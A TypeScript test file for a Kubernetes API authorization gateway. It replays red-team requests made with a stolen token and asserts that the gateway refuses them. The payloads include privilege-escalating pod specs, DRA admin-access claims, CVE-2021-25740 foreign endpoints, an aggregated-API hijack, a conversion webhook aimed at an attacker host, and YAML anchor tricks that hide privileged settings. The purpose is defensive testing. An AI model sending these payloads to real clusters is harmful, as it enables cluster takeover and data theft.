import { describe, expect, it } from 'vitest';
import { builtServerForFile, freshSubjects, KUBE, OFFICE, reason, REFUSED, rules } from '../support/built-server.js';
import type { CheckResponse } from '../support/grpc-client.js';
import { envelope, lenField } from '../support/kube-protobuf.js';
import { checkRequest, CONTENT_TYPES } from '../support/requests.js';

/**
 * Session 45's round (redteam45b) on what Kubernetes 1.33 to 1.35 added to a request: in-place pod
 * resize, image volumes, sidecar containers, `fileKeyRef`, user namespaces, DRA admin access,
 * mutating admission policies, ClusterTrustBundles, PodCertificateRequests, StorageVersionMigrations,
 * node-bound tokens, Gateway API cross-namespace references, KYAML, and the open CVE-2021-25740
 * row of session 44. Each request is sent with the stolen everyday token of
 * attack-session44-cves (two factors, signed in three hours ago, from the engineer's office after
 * the engineer's own kubectl read) to the built server over real gRPC, with a site's copy of the
 * example that lists its registry (`guardrails.allowed_registries: [registry.example]`; the example
 * lists none, the list being the site's own). docs/guardrails.md ("Kubernetes 1.33 to 1.35") is the
 * table of these rows.
 */

const server = builtServerForFile('session45-kube', (yaml) => yaml.replace(/^guardrails:\n/m, 'guardrails:\n  allowed_registries: [registry.example]\n'));
const subjects = freshSubjects(() => server().issuer, 'session45-kube');
const KUBECTL = 'kubectl/v1.35.0 (linux/amd64) kubernetes/66452049';

interface Req {
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: unknown;
  raw?: Uint8Array;
}

/** The stolen everyday token: aal2, three hours old, from the office, after the victim's own read. */
const everyday = async (req: Req): Promise<CheckResponse> => {
  const token = await subjects.tokenOf('aal2', 3 * 3600);
  const own = await server().client.check(checkRequest({ host: KUBE, source: OFFICE, path: '/api/v1/namespaces/dev/pods?limit=500', token, headers: { 'user-agent': KUBECTL } }));
  expect(reason(own), "the victim's own read").toBe('allowed');
  const body = req.body === undefined ? undefined : typeof req.body === 'string' ? req.body : JSON.stringify(req.body);
  const sends = body !== undefined || req.raw !== undefined;
  const headers = { 'user-agent': KUBECTL, ...(sends ? { 'x-envoy-auth-partial-body': 'false', 'content-type': CONTENT_TYPES.json } : {}), ...req.headers };
  return server().client.check(checkRequest({ host: KUBE, source: OFFICE, method: req.method, path: req.path, token, headers, body, rawBody: req.raw }));
};

const post = (path: string, body: unknown, headers: Record<string, string> = {}): Req => ({ method: 'POST', path, body, headers });
const patch = (path: string, body: unknown, type: string = CONTENT_TYPES.merge): Req => ({ method: 'PATCH', path, body, headers: { 'content-type': type } });
const protobuf = (path: string, raw: Uint8Array): Req => ({ method: 'POST', path, raw, headers: { 'content-type': 'application/vnd.kubernetes.protobuf' } });
const yaml = (path: string, text: string): Req => ({ method: 'POST', path, body: text, headers: { 'content-type': 'application/yaml' } });

const IMAGE = 'registry.example/app:1';
const OTHER_IMAGE = 'docker.io/mallory/tools:1';
const pod = (spec: object) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'x' }, spec: { containers: [{ name: 'c', image: IMAGE }], ...spec } });
const deployment = (podSpec: object) => ({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'web' }, spec: { selector: { matchLabels: { app: 'web' } }, template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'c', image: IMAGE }], ...podSpec } } } });
const imageVolume = (reference: string) => ({ volumes: [{ name: 'tools', image: { reference, pullPolicy: 'Always' } }], containers: [{ name: 'c', image: IMAGE, volumeMounts: [{ name: 'tools', mountPath: '/tools' }] }] });
const PODS = '/api/v1/namespaces/dev/pods';

/**
 * The Pod of imageVolume as client-go's protobuf encoding sends it, by k8s.io/api's generated.proto
 * field numbers (Pod: metadata 1, spec 2; PodSpec: volumes 1, containers 2; Volume: name 1,
 * volumeSource 2, whose fields JSON inlines; VolumeSource.image 30; ImageVolumeSource: reference 1;
 * Container: name 1, image 2), written out here rather than from stepgate's own decoder table.
 */
const imageVolumePod = (reference: string) => {
  const volume = Buffer.concat([lenField(1, 'tools'), lenField(2, lenField(30, lenField(1, reference)))]);
  const container = Buffer.concat([lenField(1, 'c'), lenField(2, IMAGE)]);
  return envelope('v1', 'Pod', Buffer.concat([lenField(1, lenField(1, 'x')), lenField(2, Buffer.concat([lenField(1, volume), lenField(2, container)]))]));
};

const DRA = '/apis/resource.k8s.io';
const claimV1 = (exactly: object) => ({ apiVersion: 'resource.k8s.io/v1', kind: 'ResourceClaim', metadata: { name: 'gpu' }, spec: { devices: { requests: [{ name: 'gpu', exactly: { deviceClassName: 'gpu.example.com', ...exactly } }] } } });
const ADMIN_CLAIM_V1BETA1 = { apiVersion: 'resource.k8s.io/v1beta1', kind: 'ResourceClaim', metadata: { name: 'gpu' }, spec: { devices: { requests: [{ name: 'gpu', deviceClassName: 'gpu.example.com', adminAccess: true }] } } };
const ADMIN_TEMPLATE = { apiVersion: 'resource.k8s.io/v1', kind: 'ResourceClaimTemplate', metadata: { name: 'gpu' }, spec: { spec: claimV1({ adminAccess: true }).spec } };

/** An Endpoints in dev at a production pod's address, its targetRef naming that pod (CVE-2021-25740). */
const foreignEndpoints = (targetNs: string) => ({ apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'pay' }, subsets: [{ addresses: [{ ip: '10.244.3.17', targetRef: { kind: 'Pod', namespace: targetNs, name: 'pay-0' } }], ports: [{ port: 8080 }] }] });
const foreignSlice = (targetNs: string) => ({ apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: { name: 'pay-1', labels: { 'kubernetes.io/service-name': 'pay' } }, addressType: 'IPv4', endpoints: [{ addresses: ['10.244.3.17'], targetRef: { kind: 'Pod', namespace: targetNs, name: 'pay-0' } }], ports: [{ port: 8080 }] });

/** [what, request, the rule or `guardrail:<code>` the refusal names] */
type Row = [what: string, req: Req, by: string];

const refusedBy = async ([, req, by]: Row) => {
  const res = await everyday(req);
  expect(REFUSED, rules(res)).toContain(reason(res));
  expect(rules(res).split(',')).toContain(by);
};

/**
 * Found: allowed to the stolen everyday token before session 45, each fixed at its cause.
 * - Image volumes (`volumes[].image.reference`, KEP-4639) are images the kubelet pulls, with the
 *   pod's pull secrets; `guardrails.allowed_registries` read only containers' images, so a site's
 *   registry list let any registry's image onto the node by a volume (rules/pod-security.ts). The
 *   protobuf decoder read the volume as opaque: it reads its reference now.
 * - DRA admin access (`adminAccess: true`, beta and on by default in 1.34): a claim allocated the
 *   devices other pods hold, whichever namespace they are in, was the `default` rule's; it is the
 *   guardrail `device_admin_access` now, as is the namespace label kube-apiserver wants for it.
 *   Claims are read bodies now, so one in protobuf (for whose fields stepgate has no table) is
 *   `body_unreadable`, judged as the worst case, where before its body was not read at all.
 * - CVE-2021-25740: an Endpoints or EndpointSlice written by hand whose `targetRef` names another
 *   namespace's pod (the endpoints controllers only name the Service's own) is the guardrail
 *   `endpoint_foreign_target` now. An address alone stays open (below).
 * - A PodCertificateRequest (1.34) is a pod's identity certificate for a key the requester holds:
 *   asked what a TokenRequest asks (the example's service-account-tokens), its signing what a
 *   CSR's approval asks (cluster-control); a StorageVersionMigration, a control-plane object of
 *   Kubernetes' own, is cluster-control's too. All three were the `default` rule's.
 */
describe('found in session 45: allowed to the stolen everyday token before', () => {
  const rows: Row[] = [
    ['a Pod in dev mounting an image volume from a registry the site does not list', post(PODS, pod(imageVolume(OTHER_IMAGE))), 'guardrail:image_registry_not_allowed'],
    ['the same in a Deployment', post('/apis/apps/v1/namespaces/dev/deployments', deployment(imageVolume(OTHER_IMAGE))), 'guardrail:image_registry_not_allowed'],
    ['the same added by a strategic merge patch of the Deployment', patch('/apis/apps/v1/namespaces/dev/deployments/web', { spec: { template: { spec: { volumes: [{ name: 'tools', image: { reference: OTHER_IMAGE } }] } } } }, CONTENT_TYPES.strategic), 'guardrail:image_registry_not_allowed'],
    ['the same Pod sent as protobuf', protobuf(PODS, imageVolumePod(OTHER_IMAGE)), 'guardrail:image_registry_not_allowed'],
    ['a ResourceClaim in dev with adminAccess (resource.k8s.io/v1, requests[].exactly)', post(`${DRA}/v1/namespaces/dev/resourceclaims`, claimV1({ adminAccess: true })), 'guardrail:device_admin_access'],
    ['the same in v1beta1 (requests[].adminAccess)', post(`${DRA}/v1beta1/namespaces/dev/resourceclaims`, ADMIN_CLAIM_V1BETA1), 'guardrail:device_admin_access'],
    ['a ResourceClaimTemplate with adminAccess (every pod of a Deployment gets a claim from it)', post(`${DRA}/v1/namespaces/dev/resourceclaimtemplates`, ADMIN_TEMPLATE), 'guardrail:device_admin_access'],
    ['adminAccess added to a ResourceClaimTemplate by a JSON patch', patch(`${DRA}/v1/namespaces/dev/resourceclaimtemplates/gpu`, [{ op: 'add', path: '/spec/spec/devices/requests/0/exactly/adminAccess', value: true }], CONTENT_TYPES.jsonPatch), 'guardrail:device_admin_access'],
    ["dev labelled for DRA admin access (kube-apiserver then admits adminAccess in dev's claims)", patch('/api/v1/namespaces/dev', { metadata: { labels: { 'resource.kubernetes.io/admin-access': 'true' } } }), 'guardrail:device_admin_access'],
    ["the same by 1.33's label", patch('/api/v1/namespaces/dev', { metadata: { labels: { 'resource.k8s.io/admin-access': 'true' } } }), 'guardrail:device_admin_access'],
    ["CVE-2021-25740: an Endpoints in dev whose address is a production pod's, named by its targetRef", post('/api/v1/namespaces/dev/endpoints', foreignEndpoints('prod-payments')), 'guardrail:endpoint_foreign_target'],
    ['CVE-2021-25740: the same as an EndpointSlice', post('/apis/discovery.k8s.io/v1/namespaces/dev/endpointslices', foreignSlice('prod-payments')), 'guardrail:endpoint_foreign_target'],
    ['CVE-2021-25740: the targetRef added to an existing Endpoints by a JSON patch', patch('/api/v1/namespaces/dev/endpoints/pay', [{ op: 'add', path: '/subsets/0/addresses/0/targetRef', value: { kind: 'Pod', namespace: 'prod-payments', name: 'pay-0' } }], CONTENT_TYPES.jsonPatch), 'guardrail:endpoint_foreign_target'],
    // stepgate has no protobuf table for DRA's kinds: a claim it cannot read may ask for admin access.
    ['a ResourceClaim sent as protobuf (not read at all before)', protobuf(`${DRA}/v1/namespaces/dev/resourceclaims`, envelope('resource.k8s.io/v1', 'ResourceClaim', lenField(1, lenField(1, 'gpu')))), 'guardrail:body_unreadable'],
    ["a PodCertificateRequest in dev for a pod's identity (what only kubelets send)", post('/apis/certificates.k8s.io/v1beta1/namespaces/dev/podcertificaterequests', { apiVersion: 'certificates.k8s.io/v1beta1', kind: 'PodCertificateRequest', metadata: { name: 'web-0-cert' }, spec: { signerName: 'example.com/spiffe', podName: 'web-0', podUID: '5e2c0000-0000-4000-8000-000000000001', serviceAccountName: 'web', serviceAccountUID: '5e2c0000-0000-4000-8000-000000000002', nodeName: 'worker-1', nodeUID: '5e2c0000-0000-4000-8000-000000000003', pkixPublicKey: 'MCowBQYDK2VwAyEA', proofOfPossession: 'c2ln' } }), 'service-account-tokens'],
    ["a PodCertificateRequest's certificate written (the signer's part)", patch('/apis/certificates.k8s.io/v1beta1/namespaces/dev/podcertificaterequests/web-0-cert/status', { status: { certificateChain: '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n' } }), 'cluster-control'],
    ["a StorageVersionMigration of every Secret (the API server rewrites each)", post('/apis/storagemigration.k8s.io/v1beta1/storageversionmigrations', { apiVersion: 'storagemigration.k8s.io/v1beta1', kind: 'StorageVersionMigration', metadata: { name: 'secrets' }, spec: { resource: { group: '', resource: 'secrets' } } }), 'cluster-control'],
  ];
  it.each(rows.map((r) => [r[0], r] as const))('%s: refused', async (_what, r) => refusedBy(r));
});

/** Right before this session: the rule or guardrail that stops the stolen everyday token. */
describe('already stopped: what answers each new surface', () => {
  const resize = (ns: string, pod: string) => patch(`/api/v1/namespaces/${ns}/pods/${pod}/resize`, { spec: { containers: [{ name: 'c', resources: { limits: { cpu: '64', memory: '1Mi' } } }] } }, CONTENT_TYPES.strategic);
  const rows: Row[] = [
    ['pods/resize of a production pod (its limits starved, 1.33)', resize('prod-payments', 'pay-0'), 'prod-writes'],
    ["pods/resize of etcd's static pod in kube-system", resize('kube-system', 'etcd-cp-1'), 'system-writes'],
    ['a sidecar (an init container with restartPolicy: Always) that is privileged', post(PODS, pod({ initContainers: [{ name: 's', image: IMAGE, restartPolicy: 'Always', securityContext: { privileged: true } }] })), 'guardrail:privileged_container'],
    ['a sidecar from a registry the site does not list', post(PODS, pod({ initContainers: [{ name: 's', image: OTHER_IMAGE, restartPolicy: 'Always' }] })), 'guardrail:image_registry_not_allowed'],
    ['procMount: Unmasked in a user-namespaced pod (hostUsers: false)', post(PODS, pod({ hostUsers: false, containers: [{ name: 'c', image: IMAGE, securityContext: { procMount: 'Unmasked' } }] })), 'guardrail:proc_mount_unmasked'],
    ['a MutatingAdmissionPolicy (rewrites every matching object, 1.34 beta)', post('/apis/admissionregistration.k8s.io/v1beta1/mutatingadmissionpolicies', { apiVersion: 'admissionregistration.k8s.io/v1beta1', kind: 'MutatingAdmissionPolicy', metadata: { name: 'm' }, spec: { matchConstraints: { resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }] }, mutations: [{ patchType: 'ApplyConfiguration', applyConfiguration: { expression: 'Object{spec: Object.spec{hostNetwork: true}}' } }], reinvocationPolicy: 'Never' } }), 'guardrail:admission_config_change'],
    ['its binding', post('/apis/admissionregistration.k8s.io/v1beta1/mutatingadmissionpolicybindings', { apiVersion: 'admissionregistration.k8s.io/v1beta1', kind: 'MutatingAdmissionPolicyBinding', metadata: { name: 'm' }, spec: { policyName: 'm' } }), 'guardrail:admission_config_change'],
    ["a ValidatingAdmissionPolicyBinding turned to Audit (the cluster's Pod Security policy off)", patch('/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/pss-baseline', { spec: { validationActions: ['Audit'] } }), 'guardrail:admission_config_change'],
    ['a ClusterTrustBundle (a CA every pod that projects it trusts)', post('/apis/certificates.k8s.io/v1beta1/clustertrustbundles', { apiVersion: 'certificates.k8s.io/v1beta1', kind: 'ClusterTrustBundle', metadata: { name: 'example.com:mesh:evil' }, spec: { signerName: 'example.com/mesh', trustBundle: '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n' } }), 'cluster-control'],
    ["a node-bound service-account token (the node's identity for the pod's account)", post('/api/v1/namespaces/dev/serviceaccounts/default/token', { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: { audiences: ['https://kubernetes.default.svc'], boundObjectRef: { kind: 'Node', apiVersion: 'v1', name: 'worker-1' } } }), 'service-account-tokens'],
    ["a ReferenceGrant in production letting dev's routes reach its Services", post('/apis/gateway.networking.k8s.io/v1beta1/namespaces/prod-payments/referencegrants', { apiVersion: 'gateway.networking.k8s.io/v1beta1', kind: 'ReferenceGrant', metadata: { name: 'from-dev' }, spec: { from: [{ group: 'gateway.networking.k8s.io', kind: 'HTTPRoute', namespace: 'dev' }], to: [{ group: '', kind: 'Service' }] } }), 'reference-grants'],
    ['an APIService for a group at a workload in dev (aggregated-API hijack)', post('/apis/apiregistration.k8s.io/v1/apiservices', { apiVersion: 'apiregistration.k8s.io/v1', kind: 'APIService', metadata: { name: 'v1.metrics.k8s.io' }, spec: { group: 'metrics.k8s.io', version: 'v1', service: { namespace: 'dev', name: 'x' }, insecureSkipTLSVerify: true, groupPriorityMinimum: 100, versionPriority: 100 } }), 'cluster-control'],
    ["a CRD's conversion webhook pointed at a URL of the attacker's (every read of the kind passes through it)", patch('/apis/apiextensions.k8s.io/v1/customresourcedefinitions/certificates.cert-manager.io', { spec: { conversion: { strategy: 'Webhook', webhook: { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://hooks.attacker.example/convert' } } } } }), 'cluster-control'],
    ["the kubelet's pod list through nodes/proxy (every pod's spec and env of the node)", { method: 'GET', path: '/api/v1/nodes/worker-1/proxy/pods' }, 'no-node-proxy'],
    ["the kubelet's checkpoint of a production container (its memory, to a file on the node)", { method: 'POST', path: '/api/v1/nodes/worker-1/proxy/checkpoint/prod-payments/pay-0/pay' }, 'no-node-proxy'],
    ['a privileged Pod as YAML whose securityContext is an alias of an anchor', yaml(PODS, 'apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec:\n  containers:\n  - name: a\n    image: registry.example/app:1\n    securityContext: &sc {privileged: true}\n  - name: b\n    image: registry.example/app:1\n    securityContext: *sc\n'), 'guardrail:privileged_container'],
    ['a hostPID Pod as KYAML (1.34: flow style, quoted strings, trailing commas)', yaml(PODS, '{\n  apiVersion: "v1",\n  kind: "Pod",\n  metadata: {\n    name: "x",\n  },\n  spec: {\n    hostPID: true,\n    containers: [{\n      name: "c",\n      image: "registry.example/app:1",\n    }],\n  },\n}\n'), 'guardrail:host_namespace'],
  ];
  it.each(rows.map((r) => [r[0], r] as const))('%s', async (_what, r) => refusedBy(r));

  it.each<[string, Req]>([
    // kube's YAML reader (sigs.k8s.io/yaml, yaml.v2 underneath) merges `<<` keys; stepgate's reader does
    // not, so it cannot say what the merged spec holds and refuses to guess.
    ['a Pod as YAML whose spec merges hostNetwork in by `<<: *anchor`', yaml(PODS, 'apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nbase: &b {hostNetwork: true}\nspec:\n  <<: *b\n  containers:\n  - {name: c, image: "registry.example/app:1"}\n')],
  ])('%s: an unreadable body, judged as the worst case', async (_what, req) => {
    const res = await everyday(req);
    expect(REFUSED, rules(res)).toContain(reason(res));
    expect(rules(res)).toContain('guardrail:body_unreadable');
  });
});

describe('controls: the routine use of the same APIs stays allowed to the everyday token', () => {
  it.each<[string, Req]>([
    ['pods/resize of a dev pod (the CPU a developer gives their own pod)', patch('/api/v1/namespaces/dev/pods/web-0/resize', { spec: { containers: [{ name: 'c', resources: { requests: { cpu: '2' }, limits: { cpu: '2' } } }] } }, CONTENT_TYPES.strategic)],
    ["a Pod mounting an image volume from the site's registry", post(PODS, pod(imageVolume('registry.example/models/llama:3')))],
    ["the same as protobuf", protobuf(PODS, imageVolumePod('registry.example/models/llama:3'))],
    ["a sidecar from the site's registry", post(PODS, pod({ initContainers: [{ name: 'envoy', image: 'registry.example/envoy:1.34', restartPolicy: 'Always' }] }))],
    ['a Pod reading an env value from a file of its own emptyDir (fileKeyRef, 1.34)', post(PODS, pod({ volumes: [{ name: 'cfg', emptyDir: {} }], containers: [{ name: 'c', image: IMAGE, env: [{ name: 'TOKEN_URL', valueFrom: { fileKeyRef: { volumeName: 'cfg', path: 'app.env', key: 'TOKEN_URL' } } }] }] }))],
    ['a Pod in its own user namespace (hostUsers: false)', post(PODS, pod({ hostUsers: false }))],
    ['a ResourceClaim in dev for a GPU of its own', post(`${DRA}/v1/namespaces/dev/resourceclaims`, claimV1({}))],
    ['a ResourceClaimTemplate with adminAccess: false', post(`${DRA}/v1/namespaces/dev/resourceclaimtemplates`, { ...ADMIN_TEMPLATE, spec: { spec: claimV1({ adminAccess: false }).spec } })],
    ['dev labelled for its team', patch('/api/v1/namespaces/dev', { metadata: { labels: { 'example.com/team': 'web' } } })],
    ["an Endpoints in dev whose targetRef is dev's own pod", post('/api/v1/namespaces/dev/endpoints', foreignEndpoints('dev'))],
    ["an EndpointSlice in dev whose targetRef is dev's own pod", post('/apis/discovery.k8s.io/v1/namespaces/dev/endpointslices', foreignSlice('dev'))],
    ["a selectorless Service's Endpoints for an outside database (no targetRef)", post('/api/v1/namespaces/dev/endpoints', { apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'db' }, subsets: [{ addresses: [{ ip: '10.50.1.20' }], ports: [{ port: 5432 }] }] })],
    ['a PodCertificateRequest read', { method: 'GET', path: '/apis/certificates.k8s.io/v1beta1/namespaces/dev/podcertificaterequests' }],
    ['a Pod as KYAML', yaml(PODS, '{\n  apiVersion: "v1",\n  kind: "Pod",\n  metadata: {name: "x"},\n  spec: {containers: [{name: "c", image: "registry.example/app:1"}]},\n}\n')],
  ])('%s', async (_what, req) => {
    const res = await everyday(req);
    expect(reason(res), rules(res)).toBe('allowed');
  });
});

/**
 * Left open (docs/guardrails.md "Kubernetes 1.33 to 1.35"): what decides each is in the cluster,
 * not the request. `it.fails`: a fix makes a row pass, which fails here until its marker goes.
 */
const LEFT_OPEN: [string, Req][] = [
  // An HTTPRoute naming another namespace's Service is inert until that namespace's ReferenceGrant
  // allows it (the gateway refuses the backend otherwise), and the grant is what the example asks
  // for (reference-grants, above). Whether one exists is the cluster's state.
  ["an HTTPRoute in dev whose backend is production's Service (served only where production's ReferenceGrant allows it)", post('/apis/gateway.networking.k8s.io/v1/namespaces/dev/httproutes', { apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'pay' }, spec: { parentRefs: [{ name: 'public', namespace: 'infra' }], rules: [{ backendRefs: [{ name: 'payments', namespace: 'prod-payments', port: 80 }] }] } })],
];

describe('left open', () => {
  for (const [what, req] of LEFT_OPEN) {
    it.fails(`${what} is refused to the everyday token`, async () => {
      const res = await everyday(req);
      expect(REFUSED, rules(res)).toContain(reason(res));
    });
  }
});
